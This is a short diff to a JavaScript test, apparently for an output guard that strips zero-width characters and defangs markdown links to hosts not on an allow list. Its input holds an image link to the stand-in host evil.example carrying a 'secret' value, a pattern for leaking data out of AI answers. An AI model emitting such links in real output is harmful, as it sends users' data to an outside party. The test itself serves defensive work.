@@ -75,7 +75,7 @@ describe('an answer', () => {
       ['Look: ![chart](https://evil.example/c.png?d=secret) o\u200bk [doc](https://docs.example.com/a)'],
       { output: { allowedHosts: ['docs.example.com'] } },
     );
-    expect(text).toBe('Look: [chart] (hxxps://evil.example/c.png?d=secret) ok [doc](https://docs.example.com/a)');
+    expect(text).toBe('Look: ! [chart] (hxxps://evil.example/c.png?d=secret) ok [doc](https://docs.example.com/a)');
     expect(new Set(findings.map(({ guard }) => guard))).toEqual(new Set(['unicode', 'links']));
   });
 
